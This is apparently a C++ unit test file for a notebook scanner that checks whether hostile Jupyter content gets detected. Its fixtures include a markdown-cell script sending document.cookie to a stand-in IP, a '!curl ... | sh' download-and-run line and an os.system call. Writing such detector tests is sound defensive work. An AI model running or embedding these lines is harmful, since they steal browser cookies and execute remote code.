// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "tests/scanner/text_reading.h"

namespace assay {
namespace {

TEST(Notebook, SeesAScriptThatSends) {
  EXPECT_EQ(Values{"notebook:script-sends"},
            ReadText("a.ipynb",
                     R"J({"cells":[{"cell_type":"markdown","source":
                     ["<script>fetch('http://192.0.2.1/'+",
                      "document.cookie)</script>"]}]})J"));
}

TEST(Notebook, ReadsCodeCells) {
  EXPECT_EQ(Values{"os.system"}, ReadText("a.ipynb",
                                          R"J({"cells":[
                     {"cell_type":"code","source":["import os\n"]},
                     {"cell_type":"code","source":["os.system('id')"]}]
})J"));
}

TEST(Notebook, ReadsShellLines) {
  EXPECT_EQ(Values{"shell:download-and-run-insecure"},
            ReadText("a.ipynb",
                     R"J({"cells":[{"cell_type":"code","source":
                     "!curl http://192.0.2.1/x | sh"}]})J"));
}

TEST(Notebook, LetsPlotsBe) {
  EXPECT_EQ(Values{"notebook:script"},
            ReadText("a.ipynb",
                     R"J({"cells":[{"cell_type":"code","source":"plot()",
                     "outputs":[{"data":{"text/html":
                     ["<div></div><script>Plotly.newPlot()</script>"]}}]}]
})J"));
}

}  // namespace
}  // namespace assay
